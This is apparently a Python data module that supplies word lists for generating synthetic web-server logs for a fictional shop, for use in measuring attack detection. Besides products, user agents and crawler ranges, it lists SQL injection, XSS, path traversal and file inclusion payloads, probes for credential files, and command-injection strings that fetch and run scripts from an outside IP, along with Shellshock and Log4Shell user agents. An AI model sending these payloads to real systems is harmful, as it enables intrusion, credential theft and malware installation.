"""Word lists for the sample-log generator: site paths, user agents, attack payloads, crawler ranges.

Everything here is hand-written for a small fictional shop with a blog at ``shop.example.com``.
Attack payloads are the generic textbook forms that scanners and attackers send; they exist
so that detection can be measured on logs whose ground truth is known.
"""

from __future__ import annotations

SITE_HOST = "shop.example.com"

#: (slug, id) of products. Several names are hard negatives for naive signatures
#: ("select", "script", "union", "drop", quotes, dashes).
PRODUCTS: tuple[tuple[str, int], ...] = (
    ("select-comfort-memory-pillow", 12),
    ("script-font-wall-poster", 17),
    ("union-jack-tote-bag", 23),
    ("drop-leaf-dining-table", 31),
    ("o-neill-wetsuit-4-3mm", 42),
    ("alert-dog-training-collar", 47),
    ("ceramic-pour-over-coffee-set", 53),
    ("merino-wool-beanie", 58),
    ("walnut-desk-organizer", 64),
    ("linen-duvet-cover-queen", 71),
    ("cast-iron-skillet-10-inch", 77),
    ("bamboo-cutting-board", 83),
    ("noise-cancelling-headphones", 90),
    ("usb-c-charging-cable-2m", 96),
    ("table-tennis-paddle-set", 104),
    ("insert-coin-arcade-mug", 111),
    ("and-or-logic-gate-t-shirt", 118),
    ("1-2-inch-drill-bit-set", 125),
    ("rock-n-roll-vinyl-frame", 133),
    ("exec-chair-ergonomic-mesh", 140),
)

CATEGORIES = ("lamps", "kitchen", "bedding", "outdoor", "office", "audio", "apparel", "gifts")

#: Search queries as the browser encodes them (space as ``+``); several are hard negatives.
SEARCHES: tuple[str, ...] = (
    "select+comfort+pillow",
    "%22script+font%22+poster",
    "men%27s+t-shirt",
    "drop-leaf+table",
    "o%27neill",
    "union+jack",
    "1%2F2+inch+drill+bit",
    "c%2B%2B+programming+book",
    "black+or+white+mug",
    "rock+%26+roll",
    "coffee+set",
    "headphones",
    "wool+beanie",
    "gift+ideas+under+%2450",
    "table+lamp",
    "linen",
    "skillet",
    "insert+coin",
    "--clearance--",
    "%C3%A9t%C3%A9+collection",
    "exec+chair",
    "where+is+my+order",
)

BLOG_POSTS: tuple[str, ...] = (
    "2025/11/how-we-source-our-linen",
    "2025/12/gift-guide-2025",
    "2026/01/caring-for-cast-iron",
    "2026/02/select-the-right-pillow",
    "2026/02/behind-the-script-font-posters",
    "2026/03/spring-sale-announcement",
)

#: (path, size in bytes) of the assets every page loads.
STATIC_ASSETS: tuple[tuple[str, int], ...] = (
    ("/static/css/main.3f9a1c.css", 48213),
    ("/static/js/vendor.c0ffee.js", 161553),
    ("/static/js/app.8e21d0.js", 38107),
    ("/static/fonts/inter-var.woff2", 98644),
    ("/static/img/logo.svg", 3412),
    ("/favicon.ico", 4286),
)

STALE_LINKS: tuple[str, ...] = (
    "/blog/2019/05/old-summer-sale/",
    "/product/retro-lava-lamp?id=7",
    "/products?category=christmas-2023",
    "/static/js/app.1a2b3c.js",
    "/images/banner-old.jpg",
)

REFERRERS_EXTERNAL: tuple[str, ...] = (
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://t.co/8kQz1vXb2",
    "https://www.facebook.com/",
    "https://www.pinterest.com/",
    "https://news.ycombinator.com/",
    "android-app://com.google.android.gm/",
)

BROWSER_UAS: tuple[str, ...] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/16.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.6261.119 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
)

#: (user agent, IPv4 prefixes it crawls from): a real crawler's published ranges.
CRAWLERS: tuple[tuple[str, tuple[str, ...]], ...] = (
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("66.249.66.", "66.249.70."),
    ),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.6367.155 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        ("66.249.68.", "66.249.79."),
    ),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", ("157.55.39.", "40.77.167.")),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", ("5.255.231.", "213.180.203.")),
    ("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", ("116.179.32.",)),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", ("20.191.45.",)),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        ("17.241.219.", "17.241.75."),
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", ("54.36.148.", "5.39.1.")),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", ("185.191.171.",)),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", ("69.171.249.",)),
)

#: (ip, user agent, method, path, period in seconds) of uptime monitors and health checks.
MONITORS: tuple[tuple[str, str, str, str, float], ...] = (
    ("10.0.0.2", "ELB-HealthChecker/2.0", "GET", "/healthz", 30.0),
    (
        "69.162.124.235",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "HEAD",
        "/",
        300.0,
    ),
    ("2a01:4f8:c17:2b4c::1", "Blackbox Exporter/0.25.0", "GET", "/healthz", 120.0),
)

SCANNER_UAS: tuple[str, ...] = (
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000734)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
)

SQLMAP_UA = "sqlmap/1.8.2#stable (https://sqlmap.org)"

SCRAPER_UAS: tuple[str, ...] = (
    "Scrapy/2.11.1 (+https://scrapy.org)",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/122.0.6261.57 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 "
    "(compatible; Bytespider; spider-feedback@bytedance.com)",
    "okhttp/4.12.0",
)

#: (path, status) probed by scanners; most do not exist on this site.
SCANNER_PROBES: tuple[tuple[str, int], ...] = (
    ("/.env", 404),
    ("/.env.production", 404),
    ("/.git/config", 404),
    ("/.git/HEAD", 404),
    ("/wp-login.php", 404),
    ("/wp-admin/", 404),
    ("/xmlrpc.php", 404),
    ("/phpmyadmin/", 404),
    ("/pma/index.php", 404),
    ("/admin", 301),
    ("/admin/", 403),
    ("/administrator/", 404),
    ("/backup.zip", 404),
    ("/backup.sql", 404),
    ("/db.sql.gz", 404),
    ("/config.php.bak", 404),
    ("/.aws/credentials", 404),
    ("/.DS_Store", 404),
    ("/server-status", 403),
    ("/.htaccess", 403),
    ("/info.php", 404),
    ("/phpinfo.php", 404),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("/actuator/env", 404),
    ("/.svn/entries", 404),
    ("/web.config", 404),
    ("/console/", 404),
    ("/HNAP1/", 404),
    ("/boaform/admin/formLogin", 404),
    ("/cgi-bin/luci/;stok=/locale", 404),
    ("/owa/auth/logon.aspx", 404),
    ("/solr/admin/info/system?wt=json", 404),
    ("/.well-known/security.txt", 404),
    ("/api/v1/pods", 404),
    ("/wp-content/plugins/wp-file-manager/readme.txt", 404),
    ("/.vscode/sftp.json", 404),
    ("/docker-compose.yml", 404),
    ("/config.json", 404),
    ("/.ssh/id_rsa", 404),
    ("/admin/config.php", 404),
)

#: SQL injection values for an ``id`` or ``q`` parameter, as they appear on the wire.
SQLI_VALUES: tuple[str, ...] = (
    "42%27",
    "42%27%20OR%20%271%27%3D%271",
    "42'+or+1=1--",
    "%27%20or%201%3D1--",
    "42+UNION+SELECT+NULL,NULL,NULL--",
    "-1+union+select+1,2,group_concat(table_name)+from+information_schema.tables--+-",
    "42%20UnIoN%20SeLeCt%201%2Cversion()%2C3--",
    "42/**/UNION/**/SELECT/**/username,password/**/FROM/**/users",
    "42%27%20AND%20SLEEP(5)--%20-",
    "42%29%20AND%20(SELECT%204213%20FROM%20(SELECT(SLEEP(5)))abc)--%20",
    "42;WAITFOR+DELAY+%270:0:5%27--",
    "42+AND+1%3D1",
    "42+AND+1%3D2",
    "42%27+ORDER+BY+10--+-",
    "42+AND+EXTRACTVALUE(1,CONCAT(0x7e,(SELECT+version()),0x7e))",
    "42%2527%2520or%25201%253D1",
    "admin%27--",
    "42'||(SELECT+CHAR(113)||CHAR(118))||'",
    "1%20AND%20(SELECT%20COUNT(*)%20FROM%20information_schema.columns)%3E0",
    "42);DROP+TABLE+users;--",
    "42%27%20AND%20benchmark(5000000,md5(1))--%20",
)

XSS_VALUES: tuple[str, ...] = (
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>alert(document.cookie)</script>",
    "%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E",
    '"><img+src=x+onerror=alert(1)>',
    "%3Cimg%20src%3Dx%20onerror%3Dprompt(1)%3E",
    "javascript:alert(1)",
    "javascript%3Aalert%28document.cookie%29",
    "%27-alert(1)-%27",
    "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Cbody%20onload%3Dalert(%27xss%27)%3E",
    "%3CScRiPt%3Eeval(atob(%27YWxlcnQoMSk%3D%27))%3C%2FsCrIpT%3E",
    "%3Cdetails%20open%20ontoggle%3Dalert(1)%3E",
)

#: (path with query, category) for traversal and inclusion attempts.
TRAVERSAL_TARGETS: tuple[tuple[str, str], ...] = (
    ("/download?file=../../../../etc/passwd", "path_traversal"),
    ("/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "path_traversal"),
    ("/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "path_traversal"),
    ("/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "path_traversal"),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "path_traversal"),
    ("/download?file=....//....//....//etc/shadow", "path_traversal"),
    ("/download?file=..%5c..%5c..%5cwindows%5cwin.ini", "path_traversal"),
    ("/blog/?page=../../../../proc/self/environ", "path_traversal"),
    ("/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "path_traversal"),
    ("/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path_traversal"),
    ("/index.php?page=php://filter/convert.base64-encode/resource=index.php", "file_inclusion"),
    ("/index.php?page=http://198.51.100.23/shell.txt?", "file_inclusion"),
    ("/index.php?lang=../../../../../../var/log/apache2/access.log%00", "file_inclusion"),
)

#: (path with query, category) for command injection; the user agent may carry it too.
CMDI_TARGETS: tuple[tuple[str, str], ...] = (
    ("/api/ping?host=127.0.0.1;cat+/etc/passwd", "cmd_injection"),
    ("/api/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "cmd_injection"),
    ("/api/ping?host=8.8.8.8|id", "cmd_injection"),
    ("/api/ping?host=%24(id)", "cmd_injection"),
    ("/api/ping?host=%60whoami%60", "cmd_injection"),
    ("/api/ping?host=1.1.1.1%26%26uname%20-a", "cmd_injection"),
    ("/search?q=;wget+http://45.155.205.233/x.sh+-O-|sh", "cmd_injection"),
    ("/cgi-bin/status?cmd=cd+/tmp;curl+-O+http://45.155.205.233/bot;chmod+777+bot;./bot", "cmd_injection"),
    ("/shell?cd+/tmp;rm+-rf+*;wget+http://45.155.205.233/mozi.a;sh+mozi.a", "cmd_injection"),
    (
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
        "&vars[1][]=id",
        "cmd_injection",
    ),
)

CMDI_UAS: tuple[str, ...] = (
    '() { :; }; /bin/bash -c "curl -s http://45.155.205.233/sh | sh"',
    "${jndi:ldap://45.155.205.233:1389/Exploit}",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
    "curl/7.68.0",
)

#: IPv6 prefixes of real allocations (several RIRs) for clients.
IPV6_PREFIXES: tuple[str, ...] = (
    "2a02:8108",
    "2a01:cb00",
    "2a00:23c6",
    "2001:16b8",
    "2600:1700",
    "2601:645",
    "2603:8080",
    "2406:3003",
    "2409:8a28",
    "240e:3b5",
    "2804:14c",
    "2c0f:f4c0",
    "2405:201",
)
